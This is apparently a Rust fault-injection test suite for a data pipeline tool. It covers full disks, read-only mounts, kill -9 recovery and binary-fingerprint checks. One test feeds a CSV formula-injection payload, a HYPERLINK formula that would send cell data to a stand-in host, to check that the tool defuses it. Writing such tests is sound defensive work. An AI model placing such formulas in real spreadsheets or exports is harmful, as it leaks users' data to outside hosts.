//! The fault suite: a full disk, read-only and cross-device outputs, hostile cells and headers.
//! Each asserts that earlier good outputs stay intact, the error names the cause, the next run
//! completes and `audit` passes. The filesystem cases mount a small tmpfs, which needs root (CI
//! runs as root); elsewhere they say so and pass without checking.

use std::path::{Path, PathBuf};
use std::process::Command;

use crate::support::{with_status, Ws};

/// A tmpfs mounted for the life of the value.
struct Tmpfs(PathBuf);

impl Tmpfs {
    fn mount(at: &Path, size: &str) -> Option<Tmpfs> {
        std::fs::create_dir_all(at).unwrap();
        let ok = Command::new("mount")
            .args(["-t", "tmpfs", "-o", &format!("size={size}"), "tmpfs"])
            .arg(at)
            .output()
            .is_ok_and(|o| o.status.success());
        if !ok {
            eprintln!("skipped: cannot mount a tmpfs here (not root?)");
        }
        ok.then(|| Tmpfs(at.to_path_buf()))
    }
    fn remount(&self, opts: &str) {
        let o = Command::new("mount")
            .args(["-o", &format!("remount,{opts}")])
            .arg(&self.0)
            .output()
            .unwrap();
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    }
}

impl Drop for Tmpfs {
    fn drop(&mut self) {
        let _ = Command::new("umount").arg("-l").arg(&self.0).status();
    }
}

/// A workspace wholly on a tmpfs of `size` (dropped in order: workspace, mount, its parent).
fn workspace_on_tmpfs(size: &str) -> Option<(Ws, Tmpfs, tempfile::TempDir)> {
    let outer = tempfile::tempdir().unwrap();
    let fs = Tmpfs::mount(&outer.path().join("ws"), size)?;
    let ws = Ws {
        dir: tempfile::tempdir_in(outer.path().join("ws")).unwrap(),
    };
    Some((ws, fs, outer))
}

fn writer(mb: u32) -> String {
    format!("dd if=/dev/zero of={{out.0}} bs=1M count={mb} 2>&1")
}

#[test]
fn a_full_disk_fails_with_exit_6_names_the_cause_and_leaves_the_log_whole() {
    let Some((ws, _fs, _outer)) = workspace_on_tmpfs("6m") else {
        return;
    };
    let manifest = |b_mb: u32| {
        format!(
            "nodes:\n  a:\n    cmd: {}\n    outputs: [outputs/a.bin]\n  b:\n    cmd: {}\n    needs: [a]\n    outputs: [outputs/b.bin]\n",
            writer(2),
            writer(b_mb)
        )
    };
    ws.write("pipeline.yaml", &manifest(5));
    let r = ws.run(&["run"]);
    assert_eq!(r.code, 6, "{}", r.stderr);
    assert!(
        r.stderr.contains("No space left on device")
            || r.stderr.contains("no space left on device"),
        "{}",
        r.stderr
    );
    assert_eq!(
        std::fs::metadata(ws.path("outputs/a.bin")).unwrap().len(),
        2 << 20
    );
    // The partial output was not kept: it would hold the disk full.
    assert!(!ws.path("cache/failed/b").exists());
    // The log is whole and the next run, with room, completes.
    ws.run(&["audit"]).ok();
    ws.write("pipeline.yaml", &manifest(1));
    let (rep, _) = ws.run_json(&[]);
    assert_eq!(with_status(&rep, "built"), ["b"]);
    ws.run(&["audit"]).ok();
}

#[test]
fn a_full_disk_under_a_built_in_stage_is_exit_6_not_a_panic() {
    let Some((ws, _fs, _outer)) = workspace_on_tmpfs("2m") else {
        return;
    };
    // Fill the disk, then run a stage (its worker writes a job file, a log and outputs).
    ws.write(
        "pipeline.yaml",
        "nodes:\n  a:\n    stage: probe\n    params: {message: hi}\n",
    );
    let filler = ws.path("filler");
    let _ = Command::new("dd")
        .args(["if=/dev/zero", "bs=64k", "count=64"])
        .arg(format!("of={}", filler.display()))
        .output();
    let r = ws.run(&["run"]);
    assert_eq!(r.code, 6, "{}", r.stderr);
    assert!(!r.stderr.contains("code 101"), "{}", r.stderr);
    assert!(
        r.stderr.to_lowercase().contains("no space left on device"),
        "{}",
        r.stderr
    );
    std::fs::remove_file(&filler).unwrap();
    ws.run(&["run"]).ok();
    ws.run(&["audit"]).ok();
}

#[test]
fn outputs_on_their_own_mount_publish_by_copy_and_read_only_outputs_are_exit_6() {
    let ws = Ws::new(
        "nodes:\n  a:\n    cmd: echo one > {out.0}\n    outputs: [outputs/a.txt]\n  p:\n    stage: probe\n    params: {message: one}\n",
    );
    let Some(fs) = Tmpfs::mount(&ws.path("outputs"), "4m") else {
        return;
    };
    ws.run(&["run"]).ok();
    assert_eq!(ws.read("outputs/a.txt"), "one\n");
    // A directory output replaced across the mount.
    ws.write(
        "pipeline.yaml",
        "nodes:\n  a:\n    cmd: echo two > {out.0}\n    outputs: [outputs/a.txt]\n  p:\n    stage: probe\n    params: {message: two}\n",
    );
    ws.run(&["run"]).ok();
    assert_eq!(ws.read("outputs/a.txt"), "two\n");
    assert!(ws.read("outputs/p/probe.txt").contains("two"));
    ws.run(&["audit"]).ok();
    // Read-only: the publish fails with the path, and what was there stays.
    fs.remount("ro");
    ws.write(
        "pipeline.yaml",
        "nodes:\n  a:\n    cmd: echo three > {out.0}\n    outputs: [outputs/a.txt]\n  p:\n    stage: probe\n    params: {message: two}\n",
    );
    let r = ws.run(&["run"]);
    assert_eq!(r.code, 6, "{}", r.stderr);
    assert!(r.stderr.contains("outputs"), "{}", r.stderr);
    assert_eq!(ws.read("outputs/a.txt"), "two\n");
    fs.remount("rw");
    ws.run(&["run"]).ok();
    assert_eq!(ws.read("outputs/a.txt"), "three\n");
    ws.run(&["audit"]).ok();
}

#[test]
fn formula_cells_duplicated_headers_and_crlf_rows_in_a_sales_log() {
    let ws = Ws::new("nodes: {}\n");
    ws.write(
        "stages/sku_map.csv",
        "gp_column,qty_column,division\nSWX_Core,SWX_Core_Qty,Solidworks\n",
    );
    ws.write(
        "etl.yaml",
        "paths:\n  sales_log: log.csv\n  sku_map: stages/sku_map.csv\nmax_bad_date_share: 0.5\n",
    );
    // CRLF line ends; row 3 has a formula where a date should be.
    let log = "CustomerId,Rec Date,Customer,SWX_Core,SWX_Core_Qty\r\n\
               1,2024-01-02,Acme,10,1\r\n\
               2,=HYPERLINK(\"http://x/?\"&A1),Bolt,5,1\r\n\
               3,2024-01-04,Cobalt,7,1\r\n";
    ws.write("log.csv", log);
    ws.run(&["etl", "build-star", "--config", "etl.yaml"]).ok();
    let v = ws.read("outputs/qa/violations.csv");
    let bad = v
        .lines()
        .find(|l| l.starts_with("unparseable_date"))
        .unwrap();
    // The data row is file line 3, CRLF or not; the formula is defused for spreadsheets.
    assert!(bad.contains(",3,Rec Date,"), "{bad}");
    assert!(bad.contains("\"'=HYPERLINK("), "{bad}");
    // A product column written twice: which copy is the GP is unknowable, so it blocks.
    ws.write(
        "log.csv",
        "CustomerId,Rec Date,SWX_Core,SWX_Core_Qty,SWX_Core\n1,2024-01-02,10,1,41000000\n",
    );
    let r = ws
        .run(&["etl", "build-star", "--config", "etl.yaml"])
        .code(10);
    assert!(r.stderr.contains("duplicate_column"), "{}", r.stderr);
    assert!(ws
        .read("outputs/qa/violations.csv")
        .contains("header `SWX_Core` appears 2 times (columns 3, 5)"));
}

#[test]
fn an_empty_foreach_is_an_error_not_a_silent_drop() {
    let ws = Ws::new(
        "vars:\n  ds: {from_csv: d.csv, column: d}\nnodes:\n  a:\n    cmd: echo {d} > {out.0}\n    foreach: {d: $ds}\n    outputs: [\"outputs/{d}.txt\"]\n",
    );
    ws.write("d.csv", "d\nx\n");
    ws.run(&["run"]).ok();
    ws.write("d.csv", "d\n");
    let r = ws.run(&["run"]).code(3);
    assert!(r.stderr.contains("no values"), "{}", r.stderr);
    assert!(ws.read("pipeline.lock").contains("a@x"));
}

#[test]
fn kill_9_at_twenty_seeded_moments_loses_nothing_and_the_next_run_completes() {
    // A fan of writers and a join; each writes half its output, pauses, then the rest.
    let manifest = "nodes:\n  w:\n    cmd: echo half > {out.0}; sleep 0.03; echo whole >> {out.0}\n    foreach: {i: [a, b, c, d, e, f]}\n    outputs: [\"outputs/w/{i}.txt\"]\n  join:\n    cmd: cat {in.w} > {out.0}\n    needs: [w]\n    outputs: [outputs/join.txt]\n";
    let mut state: u64 = 0x5eed;
    for point in 0..20 {
        state = state
            .wrapping_mul(6364136223846793005)
            .wrapping_add(1442695040888963407);
        let delay_ms = 5 + (state >> 33) % 250;
        let ws = Ws::new(manifest);
        let mut child = ws
            .cmd(&["run", "-j", "2"])
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap();
        std::thread::sleep(std::time::Duration::from_millis(delay_ms));
        let _ = child.kill(); // SIGKILL
        let _ = child.wait();
        let complete = |ws: &Ws| {
            for i in ["a", "b", "c", "d", "e", "f"] {
                if let Ok(t) = std::fs::read_to_string(ws.path(&format!("outputs/w/{i}.txt"))) {
                    assert_eq!(
                        t, "half\nwhole\n",
                        "kill point {point} ({delay_ms} ms): {i}"
                    );
                }
            }
        };
        complete(&ws);
        let r = ws.run(&["run", "-j", "2"]);
        assert_eq!(
            r.code, 0,
            "kill point {point} ({delay_ms} ms): {}",
            r.stderr
        );
        complete(&ws);
        assert_eq!(ws.read("outputs/join.txt"), "half\nwhole\n".repeat(6));
        let a = ws.run(&["audit"]);
        assert_eq!(
            a.code, 0,
            "kill point {point} ({delay_ms} ms): {}",
            a.stdout
        );
    }
}

#[test]
fn a_full_outputs_disk_at_publish_is_exit_6_and_keeps_the_earlier_output() {
    let ws = Ws::new(&format!(
        "nodes:\n  big:\n    cmd: {}\n    outputs: [outputs/big.bin]\n",
        writer(1)
    ));
    let Some(_fs) = Tmpfs::mount(&ws.path("outputs"), "3m") else {
        return;
    };
    ws.run(&["run"]).ok();
    // Staged on the roomy disk, then copied onto the full one: the copy fails at publish.
    ws.write(
        "pipeline.yaml",
        &format!(
            "nodes:\n  big:\n    cmd: {}\n    outputs: [outputs/big.bin]\n",
            writer(4)
        ),
    );
    let r = ws.run(&["run"]);
    assert_eq!(r.code, 6, "{}", r.stderr);
    assert!(r.stderr.contains("No space left on device"), "{}", r.stderr);
    assert_eq!(
        std::fs::metadata(ws.path("outputs/big.bin")).unwrap().len(),
        1 << 20
    );
    // The half-made copy is gone, so the disk is not left full.
    let leftovers: Vec<_> = std::fs::read_dir(ws.path("outputs"))
        .unwrap()
        .flatten()
        .map(|e| e.file_name())
        .collect();
    assert_eq!(leftovers.len(), 1, "{leftovers:?}");
    // The earlier output and its record are intact: the one problem is that the manifest now
    // asks for another command, so that record no longer follows from it (a run rebuilds it).
    let r = ws.run(&["audit", "--json"]).code(1);
    let problems = r.json()["problems"].as_array().unwrap().clone();
    assert_eq!(problems.len(), 1, "{problems:?}");
    assert_eq!(problems[0]["what"], "big", "{problems:?}");
    assert!(
        problems[0]["detail"]
            .as_str()
            .unwrap()
            .contains("command changed"),
        "{problems:?}"
    );
    ws.write(
        "pipeline.yaml",
        &format!(
            "nodes:\n  big:\n    cmd: {}\n    outputs: [outputs/big.bin]\n",
            writer(2)
        ),
    );
    ws.run(&["run"]).ok();
    ws.run(&["audit"]).ok();
}

#[test]
fn a_worker_runs_only_the_code_the_run_fingerprinted() {
    // A binary replaced during a run, or a Slurm node with another build or C library, runs
    // stage code other than the code the lock will name. The worker refuses, writing nothing.
    let ws = Ws::new("version: 1\nnodes:\n  a:\n    stage: probe\n    params: {message: hi}\n");
    ws.run(&["run"]).ok();
    let lock: serde_json::Value = serde_json::from_str(&ws.read("pipeline.lock")).unwrap();
    let code = lock["instances"]["a"]["action"]["stage"]["code"]
        .as_str()
        .unwrap()
        .to_string();
    let job = |code: &str, name: &str| {
        let out = ws.path(&format!("staging-{name}"));
        std::fs::create_dir_all(&out).unwrap();
        let report = ws.path(&format!("report-{name}.json"));
        let job = serde_json::json!({
            "stage": "probe", "code_version": code, "instance": "a", "node": "a",
            "root": ws.root(), "partition": [], "params": {"message": "hi"},
            "inputs": [], "upstream": [], "outputs": [["dir", out]], "report": report,
        });
        let path = ws.path(&format!("job-{name}.json"));
        std::fs::write(&path, job.to_string()).unwrap();
        (path, out, report)
    };
    let (path, out, report) = job(&code, "same");
    ws.run(&["worker", path.to_str().unwrap()]).ok();
    assert!(out.join("probe.txt").exists() && report.exists());

    let (path, out, report) = job("0123456789abcdef", "other");
    let r = ws.run(&["worker", path.to_str().unwrap()]);
    assert_ne!(r.code, 0);
    assert!(
        r.stderr
            .contains("stage `probe` would run other code than the run fingerprinted")
            && r.stderr.contains("the run as 0123456789ab"),
        "{}",
        r.stderr
    );
    assert!(!out.join("probe.txt").exists() && !report.exists());
}

#[test]
fn a_binary_replaced_during_a_run_does_not_run_its_remaining_stages() {
    // A rebuild (`cargo build`, `cp x.tmp && mv`) replaces the file at gosales' path while a
    // long run goes on: the stages after it must still run the code the run fingerprinted.
    let ws = Ws::new(
        "version: 1\nnodes:\n  a:\n    stage: probe\n    params: {message: a, sleep_ms: 1500}\n  b:\n    stage: probe\n    needs: [a]\n    params: {message: b}\n",
    );
    let bin = ws.path("bin/gosales");
    std::fs::create_dir_all(bin.parent().unwrap()).unwrap();
    std::fs::copy(crate::support::BIN, &bin).unwrap();
    let child = Command::new(&bin)
        .args(["run", "-j", "1"])
        .current_dir(ws.root())
        .env("NO_COLOR", "1")
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    std::thread::sleep(std::time::Duration::from_millis(500));
    let tmp = ws.path("bin/gosales.tmp");
    std::fs::write(&tmp, "#!/bin/sh\necho 'another build' >&2\nexit 1\n").unwrap();
    use std::os::unix::fs::PermissionsExt as _;
    std::fs::set_permissions(&tmp, std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::rename(&tmp, &bin).unwrap();
    let out = child.wait_with_output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    assert!(!stderr.contains("another build"), "{stderr}");
    assert!(ws.read("outputs/b/probe.txt").contains('b'));
}
